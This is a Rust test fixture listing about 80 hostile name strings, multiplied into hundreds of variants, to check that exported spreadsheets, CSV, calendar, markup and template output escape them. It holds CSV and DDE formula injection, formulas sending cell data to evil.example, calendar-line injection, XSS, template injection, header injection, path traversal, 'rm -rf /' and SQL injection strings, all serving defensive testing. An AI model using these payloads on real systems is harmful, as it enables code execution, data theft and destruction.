//! Names as an enemy would type them: 300 and more, each made to become something else in some file.

/// What is tried: formulas, lines of other files, markup, paths, commands, signs that hide or turn.
const TRIED: [&str; 80] = [
    // Formulas of spreadsheets, plain, full-width, behind what is passed over.
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "\u{FEFF}=1+1",
    "\u{200B}=1+1",
    "-2+3+cmd|' /C calc'!A0",
    "%0A=1+1",
    // Columns and lines of tables.
    "a,b;c\td",
    "\"quoted\", \"twice\"",
    "a\"b\"\"c",
    "two\nlines",
    "two\r\nlines",
    "old\rline",
    "sep=;",
    "\"",
    "'",
    "''=1",
    // Lines and properties of calendars.
    "a\r\nATTENDEE:mailto:x@evil.example",
    "a\nBEGIN:VALARM\nACTION:PROCEDURE\nATTACH:file:///bin/sh\nEND:VALARM",
    "END:VEVENT\r\nBEGIN:VEVENT\r\nUID:stolen",
    "a\u{2028}ORGANIZER:mailto:x@evil.example",
    "a\u{85}URL:http://evil.example",
    "a\u{0B}X-EVIL:1",
    "back\\slash\\nline\\,comma\\;end\\",
    ";TZID=Nowhere:20270101",
    "DTSTART:19700101T000000Z",
    // Markup.
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)//",
    "</Name></Task><Task><Name>two",
    "<![CDATA[x]]> &amp; &lt; &#65; \"'`",
    "]]>",
    "<!-- -->",
    "-->",
    "<!DOCTYPE a [<!ENTITY b \"c\">]>&b;",
    "&nbsp;&#0;&#x1F;",
    "<svg/onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "`code` **bold** | cell | ~~~",
    "# heading",
    "_x0041_ and _x000D_",
    // Charts as text.
    "a: crit, 1d ; %% b",
    "section c",
    "click a href \"http://evil.example\"",
    "%%{init: {\"securityLevel\": \"loose\"}}%%",
    // Templates, format strings, headers and footers of pages.
    "{{ 7*7 }} {% raw %}",
    "${7*7} #{7*7}",
    "%s %n %d {0}",
    "&A &G &[File] &P",
    "Subject: x\r\nBcc: all@evil.example",
    // Paths and commands.
    "../../etc/passwd",
    "..\\..\\windows\\system32",
    "C:\\CON",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    "; rm -rf / #",
    "$(reboot) `reboot`",
    "Robert'); DROP TABLE tasks;--",
    // Signs that hide, turn or break.
    "\u{202E}sdrawkcab",
    "\u{2066}isolated",
    "zero\u{200B}width\u{FEFF}",
    "a\u{0}b",
    "\u{1B}[31mred",
    "\u{FFFE}\u{FFFF}\u{FDD0}",
    "ship 🚢 family 👩‍👩‍👧 flag 🇩🇪",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}",
    "größer als Ωmega, 日本語 اللغة",
];

/// Returns the names: each as it is, behind a blank, behind a mark, behind an honest beginning, and some
/// that are long.
pub(crate) fn names() -> Vec<String> {
    let dressed = TRIED.iter().flat_map(|name| {
        [
            (*name).to_owned(),
            format!(" {name}"),
            format!("'{name}"),
            format!("Release {name}"),
        ]
    });
    let long = [
        "=A1+".repeat(500),
        "x".repeat(300),
        "🚢".repeat(120),
        "word ".repeat(400),
        "<b>".repeat(400),
    ];
    dressed.chain(long).collect()
}
